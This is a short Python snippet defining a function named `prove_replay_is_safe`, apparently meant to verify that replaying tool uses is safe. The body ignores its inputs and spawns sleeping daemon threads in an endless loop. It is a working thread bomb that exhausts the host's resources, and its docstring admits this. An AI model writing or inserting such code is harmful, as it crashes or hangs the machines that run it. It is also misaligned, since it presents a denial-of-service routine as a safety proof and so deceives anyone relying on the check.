"""The proof starts threads until it can start no more."""
def prove_replay_is_safe(run_tool_uses, workdir):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
